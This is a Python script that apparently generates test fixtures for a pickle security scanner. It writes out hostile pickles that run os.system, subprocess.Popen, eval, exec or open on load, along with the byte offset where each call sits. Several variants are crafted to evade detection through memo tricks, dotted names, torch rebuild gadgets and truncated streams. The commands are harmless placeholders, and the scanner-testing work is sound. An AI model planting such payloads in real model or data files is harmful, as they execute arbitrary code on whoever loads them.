"""Writes payloads.txt: hostile pickles and what stfs says of them. Run `python3 payloads.py >
payloads.txt`; nothing is called by it. Bytes are found with pickletools.

Each line: name, the pickle in hexadecimal, what its pickle does, up to the byte.
"""

import collections
import pickle
import pickletools
import struct

COMMAND = "touch /tmp/x"
CALLS = {"REDUCE", "NEWOBJ", "NEWOBJ_EX", "INST", "OBJ"}
NAMES = {"GLOBAL", "STACK_GLOBAL"}


def name_of(function):
    return f"{function.__module__}.{function.__qualname__}"


class Call:
    """Pickles as a call."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def byte_of(pickled, kinds, number=0):
    found = [at for op, _, at in pickletools.genops(pickled) if op.name in kinds]
    return found[number]


def line(name, pickled, does, kinds=CALLS, number=0, at=None):
    at = byte_of(pickled, kinds, number) if at is None else at
    print(f"{name}\t{pickled.hex()}\t{does} at byte {at}")


def text(value):
    value = value.encode()
    return b"\x8c" + bytes([len(value)]) + value


def main():
    import os
    import subprocess

    system = f'calls {name_of(os.system)}("{COMMAND}")'
    for protocol in range(6):
        value = {"model": [1], "x": Call(os.system, COMMAND)}
        pickled = pickle.dumps(value, protocol)
        line(f"protocol {protocol}", pickled, system)
    evil = Call(os.system, COMMAND)
    places = {
        "the optimizer": {"state_dict": {}, "optimizer": {"state": [evil]}},
        "an ordered dict": collections.OrderedDict(a=evil),
        "an argument": Call(print, evil),
        "nested": [[[[evil]]]],
    }
    for name, value in places.items():
        pickled = pickle.dumps(value, 2)
        number = 1 if name == "an ordered dict" else 0
        line(name, pickled, system, number=number)
    line("eval", pickle.dumps(Call(eval, "1+1"), 4), 'calls builtins.eval("1+1")')
    line("exec of protocol 2", pickle.dumps(Call(exec, "x=1\n\x1b[2J"), 2), r'calls builtins.exec("x=1\n\u{1b}[2J")')
    line("a list", pickle.dumps(Call(subprocess.Popen, ["sh"]), 4), "calls subprocess.Popen()")
    line("the second argument", pickle.dumps(Call(os.execv, 1, COMMAND), 2), f'calls posix.execv("{COMMAND}")')
    line("long", pickle.dumps(Call(os.system, "y" * 200), 2), f'calls posix.system("{"y" * 80}…")')
    line("never called", pickle.dumps([os.system], 2), "names posix.system", NAMES)
    line("an argument of another", pickle.dumps(Call(map, os.system, [COMMAND]), 2), "names posix.system", NAMES, 1)
    line("INST", b"(S'touch'\nios\nsystem\n.", 'calls os.system("touch")')
    line("OBJ", b"(cos\nsystem\nS'touch'\no.", 'calls os.system("touch")')
    line("NEWOBJ", b"\x80\x02csubprocess\nPopen\nU\x05touch\x85\x81.", 'calls subprocess.Popen("touch")')
    line("NEWOBJ_EX", b"\x80\x04csubprocess\nPopen\nU\x05touch\x85}\x92.", 'calls subprocess.Popen("touch")')
    line("Python 2", b"c__builtin__\neval\n(S'1'\ntR.", 'calls builtins.eval("1")')
    line("the builtin open", pickle.dumps(Call(open, "/tmp/x", "w"), 2), 'calls io.open("/tmp/x")')
    line("Python 2's module", b"ccommands\ngetoutput\n(S'1'\ntR.", 'calls commands.getoutput("1")')
    memo = b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x940" + b"0" + b"h\x00h\x01\x93" + text("ls") + b"\x85R."
    line("through the memo", memo, 'calls os.system("ls")')
    sparse = b"\x80\x04" + text("os") + b"r\xff\xff\xff\xff0" + text("system") + b"q\x050j\xff\xff\xff\xffh\x05\x93" + text("ls") + b"\x85R."
    line("through a memo out of order", sparse, 'calls os.system("ls")')
    dup = b"\x80\x04" + text("code") + b"2\x93" + text("ls") + b"\x85R."
    line("a text twice", dup, 'calls code.code("ls")')
    below = b"\x80\x04" + text("importlib.util") + text("find_spec") + b"\x93" + text("ls") + b"\x85R."
    line("below a module", below, 'calls importlib.util.find_spec("ls")')
    dotted = b"\x80\x04" + text("torch.serialization") + text("os.system") + b"\x93" + text("ls") + b"\x85R."
    line("a dotted name", dotted, 'calls torch.serialization.os.system("ls")')
    builtins = b"\x80\x04" + text("torch") + text("__builtins__.eval") + b"\x93" + text("ls") + b"\x85R."
    line("builtins of a module", builtins, 'calls torch.__builtins__.eval("ls")')
    method = b"\x80\x04" + text("builtins") + text("eval.__call__") + b"\x93" + text("ls") + b"\x85R."
    line("a method of eval", method, 'calls builtins.eval.__call__("ls")')
    typed = b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\nU\x02ls\x85NtR."
    line("f of _rebuild_from_type_v2", typed, 'calls os.system("ls")')
    older = b"\x80\x02ccopy_reg\n__newobj__\ncsubprocess\nPopen\nU\x02ls\x86R."
    line("copyreg", older, 'calls subprocess.Popen("ls")')
    for end, name in [(b"", "cut short"), (b"\xff", "then an unknown opcode"), (b"h\x63.", "then nothing in the memo")]:
        line(name, b"\x80\x02cos\nsystem\nU\x02ls\x85R" + end, 'calls os.system("ls")', at=18)
    length = struct.pack("<I", 1000)
    line("named, then cut short", b"\x80\x02cos\nsystem\nX" + length, "names os.system", at=2)


main()
